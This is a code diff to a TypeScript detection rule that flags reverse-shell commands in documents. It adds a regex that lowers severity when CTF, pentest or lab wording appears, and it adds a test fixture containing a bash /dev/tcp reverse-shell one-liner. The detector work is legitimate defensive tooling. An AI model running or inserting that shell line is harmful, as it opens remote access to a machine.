@@ -35,6 +35,10 @@ const SHAPES: readonly RegExp[] = [
 const LAB =
   /\/dev\/(?:tcp|udp)\/(?:10\.\d{1,3}|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.\d{1,3}\.\d{1,3}\/|\s(?:10\.\d{1,3}|192\.168)\.\d{1,3}\.\d{1,3}\s/
 
+/** What is practised on machines that are set up for it. */
+const PRACTISED =
+  /\bctfs?\b|\bcapture the flag\b|\bhack ?the ?box\b|\btry ?hack ?me\b|\bpen(?:etration)?[- ]?tests?(?:ing|er)?\b|\b(?:lab|training) (?:targets?|machines?|network|range)\b/
+
 export default defineRule({
   id: 'reverse-shell',
   since: 1,
@@ -58,6 +62,7 @@ export default defineRule({
       'Test the port with `timeout 1 bash -c "</dev/null"`.\n',
       '```bash\nnc -zv db.example.com 5432\n```\n',
       'A named pipe is made with `mkfifo queue`.\n',
+      '# CTF walkthrough\n\nOn the container: `bash -i >& /dev/tcp/10.10.14.8/9001 0>&1`\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
@@ -81,7 +86,9 @@ export default defineRule({
       if (!found) continue
       behind = from + found.index + found[0].length
       const lab = LAB.test(found[0] + text.slice(behind, behind + 30))
-      yield lab && document.observe(teachesSecurity)
+      const taught =
+        lab && (document.observe(teachesSecurity) || PRACTISED.test(text.slice(0, 1200)))
+      yield taught
         ? { start: from + found.index, end: behind, severity: 'med', confidence: 'medium' }
         : { start: from + found.index, end: behind, firm: true }
     }
